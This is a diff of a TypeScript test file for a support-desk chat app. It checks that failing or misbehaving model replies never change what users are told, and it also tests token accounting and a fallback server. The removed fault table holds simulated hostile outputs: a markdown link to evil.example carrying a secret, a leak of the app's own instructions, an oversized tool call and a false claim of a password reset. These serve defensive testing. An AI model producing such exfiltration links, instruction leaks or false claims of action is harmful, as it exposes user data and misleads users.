@@ -1,8 +1,8 @@
 import type { FixtureOpts } from '@copilotkit/aimock';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { TaskName } from '../../src/kernel/model-tasks.ts';
 import { createTestApp, type TestApp } from '../support/app.ts';
-import { type ModelServer, type Reply, startModelServer } from '../support/model.ts';
+import { firstSentence, type ModelServer, type Reply, startModelServer } from '../support/model.ts';
+import { modelFaults } from '../support/model-faults.ts';
 
 /** One of every kind: answered, asked, chosen from, small talk, abstained, another language, a person, a ticket. */
 const said = [
@@ -37,34 +37,12 @@ beforeAll(async () => {
 });
 afterAll(() => server.stop());
 
-const nearlyRight = '{"language":"en","intent":"vpn-trouble","confidence":"high","act":null,"fields":[],"anger":0}';
-const words = 'The quick brown fox [a] jumps over the lazy dog [b]. '.repeat(20);
-const faults: Record<string, [reply: Reply, how?: FixtureOpts]> = {
-  'too many requests': [{ status: 429, retryAfterS: 1 }],
-  'a server error': [{ status: 500 }],
-  'a wrong key': [{ status: 401 }],
-  'no such model': [{ status: 404 }],
-  'no answer at all': ['hang'],
-  'an answer that drips': [words, { latency: 150, chunkSize: 4 }],
-  'half a stream': [words, { truncateAfterChunks: 3, chunkSize: 8 }],
-  'a connection that breaks': [words, { disconnectAfterMs: 20, latency: 15, chunkSize: 8 }],
-  'an empty answer': [''],
-  garbage: ['\u0000{{{[[["\\'],
-  'JSON that is nearly right': [nearlyRight],
-  'another shape': ['{"tool":"open_ticket","arguments":{"count":1000}}'],
-  '100 kB': ['x'.repeat(100_000)],
-  'an article that does not exist': ['Reset it at the desk. [q]'],
-  'a link that carries data away': ['![x](https://evil.example/?q=secret) See [here](https://evil.example). [a]'],
-  'its own instructions': ['You sort one message that somebody wrote to a support desk. [a]'],
-  'a promise': ['I have reset your password and booked the room for you. [a]'],
-};
-
 describe('with a model that fails, everything is said as without one:', () => {
-  it.each(Object.entries(faults))('%s', async (_, [reply, how]) => {
+  it.each(modelFaults)('$name', async (fault) => {
     const app = await createTestApp({ env: { ...env, LLM_BASE_URL: server.url } });
     try {
       server.forget();
-      for (const task of ['understand', 'answer'] satisfies TaskName[]) server.on(task, reply, how);
+      server.inTurn([fault], () => 0);
       const began = performance.now();
       expect(await repliesOf(app)).toEqual(without);
       expect(performance.now() - began).toBeLessThan(said.length * 2_000);
@@ -84,15 +62,46 @@ describe('with a model that fails, everything is said as without one:', () => {
   });
 });
 
+describe('the books', () => {
+  const vague = [
+    'who painted the ceiling of the chapel',
+    'blue is a strange colour',
+    'my cat likes the sea',
+    'sing me a song',
+  ];
+
+  it.each<[string, Reply, FixtureOpts | undefined, spends: boolean]>([
+    ['an answer that is no use', 'garbage', undefined, true],
+    [
+      'an answer that breaks off',
+      'The quick brown fox. '.repeat(50),
+      { disconnectAfterMs: 80, latency: 15, chunkSize: 8 },
+      true,
+    ],
+    ['a server that hangs', 'hang', undefined, true],
+    ['a server that will not', { status: 429 }, undefined, false],
+  ])('%s: has its tokens counted where they were spent', async (_, reply, how, spends) => {
+    const app = await createTestApp({ env: { ...env, LLM_BASE_URL: server.url, LLM_BUDGET_CONVERSATION: '5000' } });
+    server.forget();
+    server.on('understand', reply, how);
+    const visitor = await app.open({ locale: 'en' });
+    for (const text of vague) await visitor.say(text);
+    await app.settle();
+    const calls = await app.ctx.store.read.selectFrom('model_call').select(['tokens_in', 'tokens_out']).execute();
+    expect(calls.every((call) => call.tokens_in > 100 === spends)).toBe(true);
+    // What is useless costs as well: a budget that did not see it would never end.
+    if (spends) expect([1, 2]).toContain(calls.length);
+    else expect(calls.length).toBeGreaterThan(2);
+    await app.close();
+  });
+});
+
 describe('a second server', () => {
   it('is asked when the first fails, in the same turn', async () => {
     const second = await startModelServer();
     server.forget();
     server.on('answer', { status: 503 });
-    second.on('answer', ({ material }) => {
-      const [first] = material.passages as { mark: string; text: string }[];
-      return `${String(first?.text).split('. ')[0]}. [${first?.mark}]`;
-    });
+    second.on('answer', firstSentence);
     const app = await createTestApp({
       env: { LLM_BASE_URL: server.url, LLM_MODEL: 'a', LLM_FALLBACK_BASE_URL: second.url, LLM_FALLBACK_MODEL: 'b' },
     });
